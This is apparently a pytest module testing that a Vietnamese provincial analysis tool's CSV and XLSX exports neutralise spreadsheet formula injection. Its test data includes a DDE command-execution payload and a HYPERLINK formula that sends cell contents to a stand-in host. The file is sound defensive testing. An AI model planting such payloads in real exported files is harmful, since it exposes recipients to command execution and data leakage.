"""Formula injection through the analysis exports (``chiso analyze --format csv|xlsx``).

Text a user controls reaches these files: a province's own framework file names every node and
its decision. A cell starting with =, +, -, @, tab or CR is neutralised the project's way
(:func:`chiso.parindex.export.safe_cell`: an apostrophe in front), numbers stay numbers, and a
signed number written as text ("-0,3") is left as written.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import hostile
from chiso import vi
from chiso.demo.files import export_demo
from chiso.frameworks.load import embedded_paths
from chiso.parindex import export
from chiso.parindex.export import FORMULA_START, safe_cell
from chiso.parindex.inputs import analyse_province

LINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm")'


@given(text=hostile.control_text(30) | st.sampled_from(hostile.FORMULAS))
def test_safe_cell_never_leaves_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_START) or export._PLAIN_NUMBER.fullmatch(cell)
    kept = vi.strip_controls(text)  # only what no workbook can hold is dropped
    assert cell in (kept, "'" + kept)


@given(value=st.integers() | st.floats(allow_nan=False) | st.dates() | st.none())
def test_safe_cell_leaves_non_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["-0,5", "+1,34", "-12.5%", "+0", "-1.234,5"])
def test_signed_numbers_written_as_text_are_not_mangled(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_formulas_get_the_apostrophe(text):
    assert safe_cell(text) == "'" + text


def test_control_characters_are_dropped_then_judged():
    assert safe_cell("\x07=1+1") == "'=1+1"
    assert safe_cell("Sở\x0bNội vụ") == "SởNội vụ"


@pytest.fixture(scope="module")
def hostile_analysis(tmp_path_factory):
    """An analysis made from a framework file whose decision and first criterion name are
    formulas: what a province's hand-edited file could hold."""
    folder = tmp_path_factory.mktemp("khung")
    [source] = [p for p in embedded_paths() if p.stem == "2025"]
    text = source.read_text(encoding="utf-8")
    text = text.replace('decision: "892/QĐ-BNV ngày 05/12/2024"', "decision: '@SUM(1)'", 1)
    name = 'name_vi: "Công tác chỉ đạo, điều hành cải cách hành chính"'
    text = text.replace(name, f"name_vi: '{LINK.replace(chr(39), chr(39) * 2)}'", 1)
    framework = folder / "2025.yaml"
    framework.write_text(text, encoding="utf-8")
    export_demo(folder)
    return analyse_province(
        province="Lạng Sơn",
        year=2025,
        sheet=folder / "bang-diem-lang-son-2025.csv",
        framework=framework,
        previous_sheet=folder / "bang-diem-lang-son-2024.csv",
    )


def test_csv_export_neutralises_user_text_and_keeps_numbers(hostile_analysis):
    rows = list(csv.reader(io.StringIO(export.to_csv(hostile_analysis).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells
    assert not any(
        c.startswith(FORMULA_START) and not export._PLAIN_NUMBER.fullmatch(c) for c in cells
    )
    changes = [row[-1] for row in rows[1:] if row[-1]]
    assert any(c.startswith("-") for c in changes)  # negative changes: "-0.3", no apostrophe
    assert all(float(c) == float(c) for c in changes)


def test_xlsx_export_neutralises_user_text_and_keeps_numbers(hostile_analysis, tmp_path):
    path = tmp_path / "phan-tich.xlsx"
    export.write_xlsx(hostile_analysis, path)
    workbook = openpyxl.load_workbook(path)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), "no formula cell at all"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + LINK in texts
    assert any(t.endswith("(@SUM(1))") for t in texts)  # inside a sentence: harmless as is
    negative = [c for c in cells if isinstance(c.value, float) and c.value < 0]
    assert negative and all(c.data_type == "n" for c in negative)
